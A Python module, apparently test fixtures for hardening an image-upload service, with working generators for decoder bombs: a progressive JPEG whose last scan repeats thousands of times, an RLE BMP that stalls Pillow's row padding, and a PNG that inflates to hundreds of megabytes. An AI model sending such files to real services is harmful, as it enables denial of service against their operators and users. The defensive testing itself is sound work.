"""Hostile uploads, built from their class rather than copied from a sample: each function makes
the smallest file of a kind that costs a naive decoder the most."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def jpeg_scan_bomb(side: int = 4000, scans: int = 2000) -> bytes:
    """A progressive JPEG of a blank `side`² picture whose last scan is repeated `scans` times:
    a few bytes per scan (runs of empty blocks), a full pass over the picture each to decode
    (libjpeg only warns about the repeated progression)."""
    buf = io.BytesIO()
    Image.new("L", (side, side), 0).save(buf, "JPEG", progressive=True, quality=90)
    data = buf.getvalue()
    segments = _jpeg_segments(data)
    # the last scan with the tables defined right before it
    last = max(i for i, (marker, _) in enumerate(segments) if marker == 0xDA)
    first = last
    while first > 0 and segments[first - 1][0] == 0xC4:  # DHT
        first -= 1
    head = b"".join(raw for _, raw in segments[: last + 1])
    scan = b"".join(raw for _, raw in segments[first : last + 1])
    return head + scan * scans + b"\xff\xd9"


def _jpeg_segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, bytes) from SOI up to EOI, each SOS with its entropy-coded data."""
    assert data[:2] == b"\xff\xd8"
    out, i = [(0xD8, data[:2])], 2
    while i < len(data):
        assert data[i] == 0xFF
        marker = data[i + 1]
        if marker == 0xD9:
            break
        length = struct.unpack(">H", data[i + 2 : i + 4])[0]
        end = i + 2 + length
        if marker == 0xDA:  # entropy-coded data runs to the next marker that is not a stuffing
            while not (data[end] == 0xFF and data[end + 1] not in (0x00, *range(0xD0, 0xD8))):
                end += 1
        out.append((marker, data[i:end]))
        i = end
    return out


def bmp_rle_bomb(width: int = 40_000, height: int = 1000) -> bytes:
    """An 8-bit RLE BMP, 4 bytes a row: one pixel, then end-of-line, which Pillow pads out one
    byte at a time in Python (holding the GIL): width × height iterations from a few KB."""
    rows = b"\x01\x01\x00\x00" * height + b"\x00\x01"
    palette = b"\x00\x00\x00\x00\xff\xff\xff\x00"
    offset = 14 + 40 + len(palette)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(rows), 2835, 2835, 2, 2)
    header = struct.pack("<2sIHHI", b"BM", offset + len(rows), 0, 0, offset)
    return header + info + palette + rows


def png_inflation(width: int = 6000, height: int = 6000, mode: str = "RGBA") -> bytes:
    """A valid PNG just under the pixel limit that compresses to ~100 KB: all of it is inflated
    (and converted) to decode, hundreds of MB."""
    channels = {"L": 1, "RGB": 3, "RGBA": 4}[mode]
    colour = {"L": 0, "RGB": 2, "RGBA": 6}[mode]
    row = b"\x00" + b"\x00" * (width * channels)
    raw = zlib.compress(row * height, 9)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")
